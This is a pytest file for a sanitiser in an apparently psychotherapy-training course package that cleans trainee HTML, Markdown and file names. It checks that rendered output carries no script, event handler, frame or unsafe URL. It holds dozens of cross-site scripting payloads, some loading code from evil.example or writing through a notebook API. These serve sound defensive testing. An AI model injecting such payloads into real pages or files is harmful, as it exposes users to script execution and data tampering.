"""Sanitising trainee-written HTML, Markdown and file names before an instructor's browser shows them.

Each payload is checked on what a browser would get: the cleaned text is rendered the way
nbconvert renders it (Markdown through its markdown2html) and the HTML is parsed, then no script
element, no event handler, no frame and no URL with a scheme other than http/https/mailto (or an
image data URL on <img src>) may remain.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from ipt_widgets.feedback import classification_card, draft_card, notice_card, score_card
from ipt_widgets.figures import closeness_circle_svg, phq9_svg, timeline_svg
from ipt_widgets.sanitize import clean_filename, clean_html, clean_markdown
from ipt_widgets.scoring import ClassificationAnswer, score_classification
from ipt_widgets.scoring.base import ItemScore
from ipt_widgets.scoring.free_text import DraftScore, ElementResult
from nbconvert.filters.markdown import markdown2html

HTML_PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg/onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='fetch(\"/api/contents/pwned.txt\",{method:\"PUT\"})'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>fake page</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<div onmouseover='alert(1)' class='ipt-card'>x</div>",
]

MARKDOWN_PAYLOADS = HTML_PAYLOADS + [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&Tab;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](&#32;&#10;javascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<javascript: alert(1)>)",
    "[x](" + "&#x09;" * 500 + "javascript:alert(1))",
    "[x](" + "&Tab;" * 30000 + "javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<div>\n`<script>alert(1)</script>`\n</div>",
    "<pre>\n<script>alert(1)</script>\n</pre>",
    "$\\href{javascript:alert(1)}{click}$",
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcdoc"}
_FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "base", "meta", "link", "style", "math", "input", "template",
    "set", "animate", "foreignobject",
}  # fmt: skip


class _Audit(HTMLParser):
    """Collect every way the HTML could run script or load a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}")
            if name in _URL_ATTRIBUTES and value is not None and not _safe_url(tag, name, value):
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "style" and value and re.search(r"url\(|position|expression", value, re.I):
                self.problems.append(f"{tag} style={value!r}")


def _safe_url(tag: str, name: str, value: str) -> bool:
    url = re.sub(r"[\x00-\x20]", "", value).lower()
    scheme = re.match(r"([a-z][a-z0-9+.\-]*):", url)
    if scheme is None or scheme.group(1) in ("http", "https", "mailto") or scheme.group(1).startswith("unsafe-"):
        return True
    return tag == "img" and name == "src" and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml)[;,]", url)


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    parser.close()
    return parser.problems


def test_the_audit_itself_catches_every_payload():
    """Uncleaned, every HTML payload fails the audit (so a clean audit below means something)."""
    for payload in HTML_PAYLOADS:
        if "<math>" in payload or "<noscript>" in payload or "<!--" in payload:
            continue  # these act through the browser's parser, not Python's; checked after cleaning
        assert audit(payload), payload


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_clean_html_removes_script(payload):
    cleaned = clean_html(payload)
    assert audit(cleaned) == []
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_clean_markdown_renders_without_script(payload):
    cleaned = clean_markdown(payload)
    assert audit(markdown2html(cleaned)) == [], markdown2html(cleaned)
    assert clean_markdown(cleaned) == cleaned


def test_uncleaned_markdown_payloads_would_run():
    """The renderer passes these through as they are: cleaning is what stops them."""
    for payload in ["<script>window.__pwned=1</script>", "[x](javascript:alert(1))", "<img src=x onerror=alert(1)>"]:
        assert audit(markdown2html(payload)), payload


@pytest.mark.parametrize(
    "text",
    [
        "# Formulation\n\nMrs A. has a **role dispute** with her husband, at the *impasse* stage.",
        "- first point\n- second point\n\n1. one\n2. two",
        "PHQ-9 fell from 19 to 6 (a < b, and 5 > 4), AT&T & co.",
        "> a quoted line\n\nSee [the guide](https://example.org/guide?a=1&b=2) or <https://example.org>.",
        "Mail [me](mailto:tutor@example.org) or <tutor@example.org>; use <b>bold</b> and <br> breaks.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Inline `code` and\n\n```python\nx = 1 if a < b else 2\n```",
        "An attached picture: ![chart](attachment:chart.png)",
        "[Note]: see this: the patient's words [sic] (her words: 'alone').",
    ],
)
def test_ordinary_markdown_is_unchanged(text):
    assert clean_markdown(text) == text


def test_large_hostile_text_is_cleaned_in_linear_time():
    import time

    for text in ["<a" * 200_000, "](" * 200_000, ("](" + "&#x09;" * 2000) * 50, "<http://x" * 100_000]:
        start = time.perf_counter()
        clean_markdown(text)
        assert time.perf_counter() - start < 5, text[:20]


def test_unsafe_link_keeps_its_text():
    cleaned = clean_markdown("See [my notes](javascript:alert(1)) and <script>x()</script> here.")
    rendered = markdown2html(cleaned)
    assert "my notes" in rendered and "&lt;script&gt;x()" in rendered and "here." in rendered


@pytest.mark.parametrize(
    "name",
    [
        "<img src=x onerror=alert(1)>.ipynb",
        "[x](javascript:alert(1)).ipynb",
        "a`<script>alert(1)</script>`b.ipynb",
        "``<svg onload=alert(1)>``.ipynb",
        "line\n\n<script>alert(1)</script>.ipynb",
        "**bold** _it_ # heading.ipynb",
    ],
)
def test_clean_filename_is_inert_code(name):
    span = clean_filename(name)
    rendered = markdown2html(f"> **Note from grading.** submitted as {span}.")
    assert audit(rendered) == []
    assert rendered.count("<code>") == 1 and "<strong>bold</strong>" not in rendered
    assert "\n" not in span and span.count("`") == 2


def test_clean_filename_keeps_ordinary_names_readable():
    assert clean_filename("m01_problem_areas (1).ipynb") == "`m01_problem_areas (1).ipynb`"
    assert clean_filename("") == "`(no name)`"
    assert len(clean_filename("x" * 1000)) < 130


@pytest.mark.parametrize("cleaner", [clean_html, clean_markdown, clean_filename])
def test_non_text_is_a_value_error(cleaner):
    with pytest.raises(ValueError, match="expected text"):
        cleaner(b"<script>")


# --- The course's own cards and figures survive ------------------------------------------------


class _Shape(HTMLParser):
    """Tags, attribute names and text of a piece of HTML, to compare before and after cleaning."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data):
        if data.strip():
            self.text.append(data.strip())


def shape(html: str) -> _Shape:
    parser = _Shape()
    parser.feed(html)
    return parser


def _draft_score() -> DraftScore:
    elements = (
        ElementResult("e1", "Names the problem area", "met", 2, 2, "She argues with her husband.", 0.8, ""),
        ElementResult(
            "e2", "Links onset to the event", "partly met", 1, 2, "It began.", 0.5, "It began after the move."
        ),
        ElementResult("e3", "States the goal", "missed", 0, 2, "", 0.1, "The goal is to renegotiate."),
    )
    return DraftScore(
        3, 6, "partial", ["Some feedback."], ["Expert formulation text."], elements=elements, word_count=42
    )


def course_cards(dispute_reference) -> dict[str, str]:
    answer = ClassificationAnswer("role_dispute", "renegotiation", "They argue <a lot> & often.")
    people = [{"name": "Husband", "circle": "inner", "focus": True, "conflict": "a_lot", "changed": True}]
    figure = "<p style='margin:0.4em 0 0'><strong>The expert's closeness circle</strong></p>"
    return {
        "classification": classification_card(
            "Case 3", score_classification(answer, dispute_reference, 2), answer, dispute_reference, notes=["A note."]
        ),
        "notice": notice_card("No answer is saved yet for v01.", title="Not answered yet"),
        "score_with_circle": score_card(
            "Inventory",
            ItemScore(1.5, 3, "partial", ["Fine."], ["Expert line."]),
            extra_html=figure + closeness_circle_svg(people),
        ),
        "score_with_timeline": score_card(
            "Timeline", ItemScore(3, 3, "correct"), extra_html=timeline_svg([5, 4, 3, 2], [("Move", 2, "onset")])
        ),
        "score_with_phq9": score_card(
            "PHQ-9", ItemScore(0, 3, "incorrect"), extra_html=phq9_svg([19, None, 6], ["s1", "s2", "s3"])
        ),
        "draft": draft_card("Formulation", _draft_score()),
    }


def test_course_cards_survive_cleaning(dispute_reference):
    for kind, card in course_cards(dispute_reference).items():
        before, after = shape(card), shape(clean_html(card))
        assert after.text == before.text, kind
        assert after.tags == before.tags, kind


def test_course_cards_keep_their_colours_and_table(dispute_reference):
    cards = course_cards(dispute_reference)
    draft = clean_html(cards["draft"])
    assert "border-left:6px solid #b26a00" in draft
    assert "<table" in draft and "<thead>" in draft and draft.count("<tr>") == 4
    assert "Links onset to the event" in draft and "An expert might write" in draft
    circle = clean_html(cards["score_with_circle"])
    assert 'viewBox="0 0 420 446"' in circle and "<title>Closeness circle</title>" in circle
    assert "They argue &lt;a lot&gt; &amp; often." in clean_html(cards["classification"])


def test_graded_notebooks_markdown_is_left_as_written():
    """Every Markdown cell of the released and solution notebooks is a fixed point: sanitising a
    graded copy changes nothing the course wrote (nor nbgrader's checksums of unanswered cells)."""
    import nbformat

    from tests.conftest import REPO

    paths = sorted(REPO.glob("exercises/*/*.ipynb")) + sorted(REPO.glob("solutions/*/*.ipynb"))
    cells = [c for p in paths for c in nbformat.read(p, as_version=4).cells if c.cell_type == "markdown"]
    assert len(cells) > 100
    assert [c.source for c in cells if clean_markdown(c.source) != c.source] == []


@pytest.mark.parametrize("stray", ["<img src=x onerror=alert(1)>.ipynb", "[x](javascript:alert(1)).ipynb"])
def test_tidy_note_shows_a_hostile_file_name_inertly(tmp_path, stray):
    import json

    from ipt_widgets.submissions import rebuild_submission

    release, folder, out = tmp_path / "release", tmp_path / "submitted", tmp_path / "rebuilt"
    for path in (release, folder, out):
        path.mkdir()
    notebook = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (release / "m01.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    (folder / stray).write_text(json.dumps(notebook), encoding="utf-8")
    notes = rebuild_submission(folder, release, out)
    assert len(notes) == 1 and "was submitted as" in notes[0]
    note = json.loads((out / "m01.ipynb").read_text(encoding="utf-8"))["cells"][0]["source"]
    rendered = markdown2html(note)
    assert audit(rendered) == [] and "was submitted as" in rendered
